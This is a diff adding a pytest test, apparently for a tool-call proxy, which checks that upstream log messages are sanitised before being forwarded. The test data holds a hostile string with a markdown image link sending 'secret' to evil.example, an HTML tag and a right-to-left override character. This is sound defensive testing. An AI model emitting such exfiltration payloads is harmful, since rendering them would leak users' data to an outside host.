@@ -217,3 +217,25 @@ async def test_cancellation_reaches_the_upstream(
                 await started.wait()
             tg.cancel_scope.cancel()
     assert wait_for(lambda: sum(1 for r in records(record) if r.get("event") == "cancelled") > before)
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("transport", ["stdio", "http"])
+async def test_upstream_log_messages_are_forwarded_sanitised_and_named(
+    transport: str, mode: str, features_policy: Path, features_proxy: Proc
+) -> None:
+    logs: list[types.LoggingMessageNotificationParams] = []
+
+    async def on_log(params: types.LoggingMessageNotificationParams) -> None:
+        logs.append(params)
+
+    hostile = "disk <b>full</b> ![x](https://evil.example/?q=secret) \u202eevil"
+    async with through(
+        transport, features_policy, features_proxy, mode, logging_callback=on_log, log_level="debug"
+    ) as client:
+        result = await client.call_tool("chatty", {"text": hostile})
+    assert not result.is_error
+    assert len(logs) == 1
+    assert logs[0].logger == "features/features"
+    assert logs[0].data == sanitize_text(hostile)
+    assert "evil.example" not in str(logs[0].data) and "<b>" not in str(logs[0].data)
